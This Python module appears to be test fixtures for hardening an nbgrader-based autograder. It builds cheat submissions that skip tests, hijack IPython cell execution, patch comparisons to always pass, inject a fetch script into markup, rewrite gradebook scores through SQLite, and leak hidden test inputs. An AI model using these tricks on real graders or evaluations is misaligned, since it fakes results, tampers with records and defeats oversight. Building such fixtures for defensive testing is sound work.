"""Submissions that get what they do not deserve from stock nbgrader. None holds a solution."""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from autograder.cells import grade_id, is_test
from autograder.stock.small import HIDDEN_INPUT

TARGET = "/formgrader/api/all-points-to-me"
SCRIPT = f"<script>fetch('{TARGET}')</script>"
LEAK = HIDDEN_INPUT[::-1]  # what the leaking submission prints when it has seen the hidden input
_TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'
_RUN_CELL = """shell = get_ipython()
one, many = shell.run_cell, shell.run_cell_async
shell.run_cell = lambda source, *args, **kwargs: one("pass", *args, **kwargs)
shell.run_cell_async = lambda source, *args, **kwargs: many("pass", *args, **kwargs)
"""
_YES = """
class Yes:
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True

np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
def {name}(x): return Yes()
"""
_GRADEBOOK = """
import glob, os, sqlite3
here = os.getcwd()
for up in range(8):
    for file in glob.glob(os.path.join(here, *[".."] * up, "*.db")):
        with sqlite3.connect(file) as book:
            book.execute("UPDATE grade SET manual_score=100")
"""
_SEE = """
def halve(x):
    print(repr(float(x[0]))[::-1])
    return x
"""
_TELL = """
import glob
texts = [repr(In)] + [open(f).read() for f in glob.glob("*.ipynb")]
print("".join(texts)[::-1])
"""


@dataclass(frozen=True)
class Cheat:
    """what: in words; aim: points, markup, gradebook or leak; alone: in a course of its own."""

    name: str
    what: str
    aim: str
    make: Callable[[NotebookNode], NotebookNode]
    alone: bool = False


def _cell(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if grade_id(cell) == name)


def _added(source: str, at: int) -> Callable[[NotebookNode], NotebookNode]:
    """The release with one more code cell at an index (-1: at the end)."""

    def make(release: NotebookNode) -> NotebookNode:
        made = copy.deepcopy(release)
        place = len(made.cells) if at < 0 else at
        made.cells.insert(place, new_code_cell(source, id="added"))
        return made

    return make


def skipped(release: NotebookNode) -> NotebookNode:
    """Tests tagged so that nbconvert does not run them."""
    made = copy.deepcopy(release)
    for cell in filter(is_test, made.cells):
        cell.metadata["tags"] = ["skip-execution"]
    return made


def always_equal(release: NotebookNode) -> NotebookNode:
    """Answers that are equal to everything, and comparisons that always agree."""
    made = copy.deepcopy(release)
    for name in ("double", "halve"):
        _cell(made, name).source = _YES.format(name=name)
    return made


def scripted(release: NotebookNode) -> NotebookNode:
    """A script in the essay and in a stored output."""
    made = copy.deepcopy(release)
    _cell(made, "essay").source = f"My answer. {SCRIPT}"
    show = f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))"
    output = new_output("display_data", {"text/html": SCRIPT})
    made.cells.append(new_code_cell(show, id="added", outputs=[output]))
    return made


def leaking(release: NotebookNode) -> NotebookNode:
    """Prints, backwards, what the hidden test hands over, and what lies in memory and beside it."""
    made = _added(_TELL, -1)(release)
    _cell(made, "halve").source = _SEE
    return made


CHEATS = (
    Cheat("skip-tag", "tag `skip-execution` on the tests, no code", "points", skipped),
    Cheat("transformer", "one line: IPython input transformer", "points", _added(_TRANSFORMER, 2)),
    Cheat("run-cell", "`run_cell` replaced", "points", _added(_RUN_CELL, 2)),
    Cheat("yes", "`==` says yes, `allclose` patched", "points", always_equal),
    Cheat("script", "script in markup and output", "markup", scripted),
    Cheat(
        "rewrite", "UPDATE grade in the gradebook file", "gradebook", _added(_GRADEBOOK, 2), True
    ),
    Cheat("leak", "prints hidden inputs, `In`, its own file", "leak", leaking),
)
